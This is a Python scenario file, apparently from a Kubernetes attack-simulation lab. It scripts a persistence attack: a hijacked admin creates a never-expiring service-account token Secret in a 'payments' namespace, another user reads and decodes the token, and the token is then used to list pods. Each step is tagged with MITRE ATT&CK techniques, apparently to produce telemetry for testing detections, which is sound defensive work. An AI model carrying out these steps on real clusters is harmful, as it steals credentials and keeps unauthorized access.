"""A secret that the token controller fills with a token that never expires; read, then used."""

import base64

from lab.client import Identity
from lab.process import wait_for
from lab.story import Scenario, Stage


def _play(stage: Stage) -> None:
    thief = stage.person("bob")
    name = stage.word("ledger-token", "default-token")
    notes = {"kubernetes.io/service-account.name": "default"}
    body = {
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {"name": name, "annotations": notes},
        "type": "kubernetes.io/service-account-token",
    }
    admin = stage.hijack("frank")
    with stage.step("make the secret", admin, "persistence", ("N01", "F12")):
        stage.must(stage.create(admin, body, "payments"))
    path = f"/api/v1/namespaces/payments/secrets/{name}"
    with stage.step("read it", thief, "credential-access", ("F01", "N01", "N12")):
        wait_for("token", lambda: b'"token":' in thief.get(path).body, 30, pause=1)
        token = base64.b64decode(thief.get(path).json["data"]["token"]).decode()  # type: ignore[index]
    used = stage.client(Identity("system:serviceaccount:payments:default", token), "203.0.113.10", "curl/8.10.1")
    with stage.step("use it", used, "persistence", ("N01", "B06")):
        used.get("/api/v1/namespaces/payments/pods")
        used.get("/api")


SCENARIO = Scenario(
    "legacy-token-secret",
    "A token that never expires is made",
    "attack",
    "keep access",
    ("T1098", "T1528"),
    _play,
)
